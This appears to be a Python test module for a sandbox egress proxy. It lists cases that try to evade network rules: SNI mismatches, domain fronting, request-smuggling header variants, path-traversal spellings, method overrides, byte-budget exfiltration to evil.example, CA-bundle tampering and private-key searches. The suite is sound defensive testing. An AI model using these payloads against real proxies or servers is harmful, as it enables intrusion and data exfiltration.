"""N and X for a box that has a network: what is said inside of a tunnel or a request that is allowed as such."""

from __future__ import annotations

from ringfence.core.box import NetworkRule
from ringfence.doctor.case import Case, Control
from ringfence.doctor.cases.egress import ONE, PROXY, SHARED, TOLD_NO
from ringfence.doctor.fake_internet import FORGED, MISTAKEN, PUBLIC
from ringfence.doctor.judging import answered, asked_for, carried_more_than, either, looked_up, network_denied, strayed

NARROW = (NetworkRule("narrow", ("allowed.example",), methods=("GET",), paths=("/ok",)),)
_FALSE = (NetworkRule("false", (FORGED, MISTAKEN), methods=("GET",)),)

_WITH_MORE = """
def with_more(hello, kind, content):
    \"\"\"The same with one more extension, and all lengths that count it.\"\"\"
    more = struct.pack("!HH", kind, len(content)) + content
    grown = bytearray(hello + more)
    at = 43
    at += 1 + grown[at]
    at += 2 + int.from_bytes(grown[at:at + 2], "big")
    at += 1 + grown[at]
    for place, size in ((3, 2), (6, 3), (at, 2)):
        longer = int.from_bytes(grown[place:place + size], "big") + len(more)
        grown[place:place + size] = longer.to_bytes(size, "big")
    return bytes(grown)
"""

INSIDE = (
    Case(
        "N52",
        "name another server in the TLS hello than the tunnel is for",
        "the tunnel ends before the hello leaves",
        PROXY + "say(False, tunnel('allowed.example:443', greeting(given['mark'] + '.evil.example')))",
        strayed,
        owed=(network_denied("one"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N53",
        "name no server in the TLS hello",
        "the tunnel ends before the hello leaves",
        PROXY + "say(False, tunnel('allowed.example:443', greeting(None)))",
        either(strayed, carried_more_than(0)),
        owed=(network_denied("one"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N54",
        "speak something else than TLS in a tunnel: HTTP, SSH, and a hello that is cut into pieces",
        "nothing of it leaves",
        PROXY
        + """
pieces = greeting(given["mark"] + ".evil.example")
mark = given["mark"].encode()
answers = [tunnel("allowed.example:443", b"GET /" + mark + b" HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"),
           tunnel("allowed.example:443", b"SSH-2.0-" + mark + b"\\r\\n")]
out, answer = connect("allowed.example:443")
with out:
    for n in range(0, len(pieces), 7):
        try:
            out.sendall(pieces[n:n + 7])
        except OSError:
            break
    heard(out)
say(False, ", ".join([*answers, answer]))
""",
        strayed,
        owed=(network_denied("one"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N55",
        "front: the URL is for an allowed host, the Host header for another",
        "403",
        PROXY + "answer = get('http://allowed.example/', 'evil.example')\nsay(answer == '200', answer)",
        strayed,
        owed=(answered("403"), network_denied("protocol")),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N56",
        "front inside of TLS: the tunnel is for an allowed host, the Host header in it for another",
        "403, since TLS ends at the proxy",
        PROXY + "answer = get_inside_tls('allowed.example', 'evil.example')\nsay(answer == '200', answer)",
        strayed,
        owed=(answered("403"), network_denied("protocol")),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N57",
        "be sent on by an allowed host to one that is not",
        "403: a redirect is a new request",
        PROXY
        + """
with way() as out:
    out.sendall(b"GET http://allowed.example/redirect HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
    answer = heard(out)
place = answer.partition(b"Location: ")[2].partition(b"\\r")[0].decode()
answer = get(place) if place else "no redirect"
say(answer == "200", answer)
""",
        looked_up,
        owed=TOLD_NO,
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N58",
        "smuggle a second request in the body of the first",
        "refused: both sides must agree where a request ends",
        PROXY
        + """
hidden = "GET /smuggled HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
start = "GET http://allowed.example/ok HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
answers = [ask(start + more + "\\r\\n\\r\\n0\\r\\n\\r\\n" + hidden) for more in (
    f"Content-Length: {5 + len(hidden)}\\r\\nTransfer-Encoding: chunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nTransfer-Encoding:\\tchunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nTransfer-Encoding: xchunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nX: a\\r\\n Transfer-Encoding: chunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked, identity",
)]
say(False, ", ".join(answers))
""",
        asked_for(b"smuggled"),
        owed=(network_denied("protocol"),),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N59",
        "ask for another host on a connection that was opened for an allowed one",
        "each request is judged by itself",
        PROXY
        + """
with way() as out:
    out.sendall(b"GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
    first = code(heard(out, seconds=20))
    out.sendall(f"GET http://evil.example/{given['mark']} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n".encode())
    second = code(heard(out))
say(second == "200", f"{first}, {second}")
""",
        strayed,
        owed=TOLD_NO,
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N64",
        "name another server beside the right one: in a second name, in a second hello, in one that is encrypted",
        "the tunnel ends before any of it leaves",
        PROXY
        + _WITH_MORE
        + """
right, other = greeting("allowed.example"), (given["mark"] + ".evil.example").encode()
named = struct.pack("!HBH", len(other) + 3, 0, len(other)) + other
tries = (with_more(right, 0, named), right + greeting(other.decode()), with_more(right, 0xFE0D, other))
say(False, ", ".join(tunnel("allowed.example:443", data) for data in tries))
""",
        strayed,
        owed=(network_denied("one"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N65",
        "talk to a server that cannot prove to be the host that is allowed: a forged certificate, another host's",
        "502: nothing is sent to it",
        PROXY
        + f"""
answers = [get_inside_tls(host, host) for host in ({FORGED!r}, {MISTAKEN!r})]
say("200" in answers, ", ".join(answers))
""",
        strayed,
        owed=(answered("502, 502"),),
        network=_FALSE,
        names={FORGED: [[PUBLIC]], MISTAKEN: [[PUBLIC]]},
        control=SHARED,
    ),
)

GRANTS = (
    Case(
        "N60",
        "write where a rule lets read: other methods, also by headers that override the method",
        "403 for each",
        PROXY
        + """
override = "X-HTTP-Method-Override: DELETE\\r\\n"
answers = [get("http://allowed.example/ok", method=method) for method in ("POST", "PUT", "DELETE", "PATCH", "get")]
answers.append(get("http://allowed.example/ok", more=override))
say("200" in answers, ", ".join(answers))
""",
        strayed,
        owed=(answered("403"), network_denied("narrow")),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N61",
        "leave the path that a rule names, in spellings that servers take for another",
        "403 for each",
        PROXY
        + """
paths = ("/", "/other", "/okay", "/ok/../other", "/ok/%2e%2e/other", "/ok/%252e%252e/other", "/ok//../other",
         "/ok/..%2fother", "/ok\\\\..\\\\other", "/ok;/../other")
answers = [get(f"http://allowed.example{path}") for path in paths]
answers.append(get("http://allowed.example/ok", more="X-Original-URL: /other\\r\\n"))
say("200" in answers, ", ".join(answers))
""",
        strayed,
        owed=(answered("403"), network_denied("narrow")),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N62",
        "use an allowed host as a drop for more than it may get",
        "not one byte over the budget",
        PROXY
        + """
body = b"x" * 5000
head = b"POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
answers = [ask(head + b"Content-Length: %d\\r\\n\\r\\n" % len(body) + body) for _ in range(3)]
chunked = head + b"Transfer-Encoding: chunked\\r\\n\\r\\n"
answers.append(ask(chunked + b"1388\\r\\n" + body + b"\\r\\n0\\r\\n\\r\\n"))
say(False, ", ".join(answers))
""",
        carried_more_than(2000),
        owed=(network_denied("little"),),
        network=(NetworkRule("little", ("allowed.example",), max_bytes_out=2000),),
        control=SHARED,
    ),
    Case(
        "N66",
        "get more from an allowed host than it may give",
        "not one byte over the budget",
        PROXY
        + """
def size(path):
    with way() as out:
        out.sendall(f"GET http://allowed.example{path} HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n".encode())
        out.settimeout(a_while(3))
        answer = b""
        try:
            while len(answer) < 5000 and (more := out.recv(65536)):
                answer += more
                if answer.startswith(b"HTTP/1.1 403") and b"\\n" in answer.partition(b"\\r\\n\\r\\n")[2]:
                    break
        except OSError:
            pass
        return len(answer)
sizes = [size("/echo/" + "x" * 6000) for _ in range(3)]
say(max(sizes) >= 5000, ", ".join(map(str, sizes)))
""",
        owed=(network_denied("little"),),
        network=(NetworkRule("little", ("allowed.example",), max_bytes_in=2000),),
        control=SHARED,
    ),
    Case(
        "N67",
        "ask an allowed host more often than it may",
        "403 from the third request within a minute on",
        PROXY
        + """
began = time.monotonic()
answers = [get("http://allowed.example/") for _ in range(8)]
most = 2 + (time.monotonic() - began) * 2 / 60
say(answers.count("200") > most, ", ".join(answers))
""",
        owed=(network_denied("seldom"),),
        network=(NetworkRule("seldom", ("allowed.example",), per_minute=2),),
        control=SHARED,
    ),
    Case(
        "N68",
        "make the proxy keep a request head of any length in memory",
        "refused: a head has a greatest length",
        PROXY
        + "answer = get('http://allowed.example/', more=f\"X: {'x' * 100_000}\\r\\n\")\nsay(answer == '200', answer)",
        owed=(network_denied("protocol"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N69",
        "hold hundreds of connections open",
        "503: one box has so many, and no more",
        PROXY
        + """
held = []
try:
    while len(held) < 260:
        held.append(way())
    answer = get("http://allowed.example/")
except OSError as exc:
    answer = word(exc)
say(answer == "200", f"{len(held)} connections, {answer}")
""",
        network=ONE,
        control=SHARED,
    ),
    Case(
        "X40",
        "have the box trust another authority: change the certificates that its run was given",
        "refused: the file is read-only",
        """
        bundle = "/run/ringfence/ca.pem"
        if not os.path.exists(bundle):
            bundle = given["canary"]
        def append():
            with open(bundle, "a") as file:
                file.write("x")
        any_of({"append": append, "remove": lambda: os.unlink(bundle),
                "move": lambda: os.rename(os.path.dirname(bundle), "/workspace/x")})
        """,
        network=NARROW,
    ),
    Case(
        "X41",
        "find the key of the authority that the box trusts",
        "no key is in its environment, files or memory",
        """
        wanted = b"-----BEGIN " + b"PRIVATE KEY"
        found = [name for name, value in os.environ.items() if wanted.decode() in value]
        bundle = os.environ.get("SSL_CERT_FILE")
        if bundle and wanted in open(bundle, "rb").read():
            found.append(bundle)
        if memory_of("self", b"-----BEGIN ", b"PRIVATE KEY-----\\n"):
            found.append("memory")
        say(bool(found), ", ".join(found) or "none")
        """,
        network=NARROW,
        control=Control(impossible="there is no such key where no box is"),
    ),
)

CASES = INSIDE + GRANTS
